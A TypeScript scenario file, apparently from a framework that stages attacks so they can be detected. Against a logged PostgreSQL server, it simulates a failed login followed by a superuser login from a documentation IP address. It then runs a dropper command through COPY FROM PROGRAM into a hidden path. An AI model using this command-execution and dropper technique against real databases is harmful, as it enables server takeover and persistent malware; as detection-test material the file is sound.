// Real PostgreSQL that notes connections and statements that change things.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { postgresql, sql } from '../../postgresql.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  postgresql(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/lib/postgresql/.pgx/pg_core' })
  await sql(stage, '203.0.113.59', 'wrong', 'SELECT 1').catch(() => undefined)
  stage.mark('occurrence')
  await sql(
    stage,
    '203.0.113.59',
    'postgres',
    `DROP TABLE IF EXISTS bwyeapel; CREATE TABLE bwyeapel(t text); COPY bwyeapel FROM PROGRAM '${line}'; DROP TABLE bwyeapel;`,
  )
}
